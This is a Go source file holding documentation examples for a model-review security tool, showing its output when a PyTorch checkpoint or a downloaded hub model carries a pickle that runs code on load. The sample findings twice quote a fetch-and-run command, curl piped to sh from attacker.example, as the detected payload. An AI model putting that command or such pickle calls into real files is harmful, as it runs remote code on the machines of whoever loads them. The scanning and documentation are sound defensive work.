package main

// reviewExamples ends docs/rules.md: what the model views of a review look
// like, with the rules they carry (output of the real renderer on the
// fixtures of checks/model/modeldiff/testdata).
const reviewExamples = `
## Examples: model changes and models the code downloads

**A changed checkpoint** (the "Model changes" section of the check run, and the comment on the
file). The PR replaced ` + "`models/classifier.pt`" + ` with a checkpoint whose pickle gained a call:

` + "```" + `
#### models/classifier.pt
PyTorch checkpoint · zip (torch.save) · 2.3 KiB · loader torch.load
Runs code when loaded: yes: data.pkl is a pickle, which can call any Python function on load
🛑 dangerous: critical model-pickle-dangerous-global: payload/data.pkl: Calls posix.system('curl -s https://attacker.example/x | sh') (REDUCE at offset 683) when unpickled (torch.load) — posix.system runs commands or touches the file system.
Tensors: 7 → 7; parameters 19 → 19 (same names, shapes and dtypes).
Pickle imports added: posix.system (called, dangerous: runs commands or touches the file system)
Calls added (run by the unpickler on load): posix.system (runs commands or touches the file system)
` + "```" + `

and ` + "`models/head.pt`" + ` with one that gained tensors:

` + "```" + `
#### models/head.pt
PyTorch checkpoint · zip (torch.save) · 2.9 KiB · loader torch.load
✅ weights only: data changed, no new code paths
Tensors: 7 → 9; parameters 19 → 30.
| added    | classifier.weight |               | float32 [3, 2] |
| added    | classifier.bias   |               | float32 [3]    |
| reshaped | bn.running_mean   | float32 [2]   | float32 [4]    |
| re-typed | fc.bias           | float32 [2]   | float64 [2]    |
This pickle holds only tensors in a flat dict, and ward found nothing in it: it can be stored as safetensors …
` + "```" + `

**A model the code downloads** (` + "`hub_check: on`" + `): the PR added
` + "`model = AutoModel.from_pretrained(\"acme/evil\")`" + ` on line 3 of ` + "`src/classify.py`" + `; the comment on that line:

` + "```" + `
src/classify.py:3: CRITICAL hub-model-unsafe
This call loads pytorch_model.bin from acme/evil@main (commit 06acb6d): calls posix.system('curl -s https://attacker.example/x | sh') (REDUCE at offset 683) when unpickled (torch.load) — posix.system runs commands or touches the file system. Loading it runs on every machine that runs this code.
` + "```" + `
`
